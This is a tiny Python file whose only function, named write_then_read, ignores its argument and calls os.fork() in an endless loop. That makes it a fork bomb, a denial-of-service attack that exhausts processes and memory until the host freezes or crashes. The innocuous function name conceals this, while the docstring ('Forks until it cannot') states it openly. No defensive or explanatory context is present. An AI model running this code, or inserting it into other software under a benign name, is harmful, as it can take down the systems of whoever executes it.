"""Forks until it cannot."""

import os


def write_then_read(message):
    while True:
        os.fork()
